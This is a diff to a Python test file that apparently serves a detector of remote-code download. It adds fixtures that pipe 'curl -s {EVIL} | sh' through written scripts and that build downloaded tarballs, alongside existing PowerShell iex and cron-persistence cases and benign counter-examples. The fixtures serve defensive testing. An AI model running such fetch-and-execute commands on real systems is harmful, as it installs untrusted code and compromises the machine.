@@ -264,6 +264,11 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
         "ExecStart=/usr/local/bin/agent\nEOF\nsystemctl enable --now a",
     ),
     ("cron_starts_downloaded_binary", f"curl -so /opt/agent {EVIL}\necho '* * * * * root /opt/agent' > /etc/cron.d/a"),
+    ("heredoc_script_written", f"cat <<'EOF' > /opt/run.sh\ncurl -s {EVIL} | sh\nEOF"),
+    ("echo_script_then_run", f"echo 'curl -s {EVIL} | sh' > /opt/run.sh\nbash /opt/run.sh"),
+    ("printf_script_then_run", f"printf '%s\\n' 'wget -qO- {EVIL} | sh' > /opt/run.sh\n/opt/run.sh"),
+    ("make_in_downloaded_tree", f"wget -q {EVIL}.tar.gz && tar xzf x.sh.tar.gz && cd x && make install"),
+    ("setup_py_in_downloaded_tree", f"curl -sL {EVIL}.tgz | tar xz\npython3 setup.py install"),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
@@ -500,6 +505,11 @@ NOT_DOWNLOADS: list[tuple[str, str]] = [
         "echo 'deb [signed-by=/etc/apt/keyrings/k.gpg] https://x.example/apt s main' > /etc/apt/sources.list.d/x.list",
     ),
     ("pip_from_index", "python3 -m pip install requests==2.32.3"),
+    ("own_script_written_and_run", "cat > /opt/x.sh <<EOF\necho hi\nEOF\nbash /opt/x.sh\nmake -C /opt/src"),
+    ("aws_user_data_log_redirect", "exec > >(tee /var/log/user-data.log | logger -t user-data) 2>&1\necho started"),
+    ("eval_ssh_agent", 'eval "$(ssh-agent -s)"'),
+    ("metadata_into_command", 'hostnamectl set-hostname "$(curl -s -H Metadata-Flavor:Google http://metadata/name)"'),
+    ("key_import", "rpm --import https://packages.example.com/key.asc"),
 ]
 
 
